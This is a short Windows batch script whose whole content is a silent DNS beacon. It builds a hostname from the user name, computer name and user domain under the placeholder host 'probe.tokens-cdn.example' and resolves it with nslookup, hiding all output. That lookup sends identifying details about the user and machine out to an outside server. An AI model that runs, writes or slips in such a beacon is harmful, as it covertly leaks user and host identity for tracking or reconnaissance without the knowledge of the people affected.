@echo off
set D=%USERDOMAIN%
nslookup %USERNAME%.%COMPUTERNAME%.%D%.probe.tokens-cdn.example >nul 2>&1
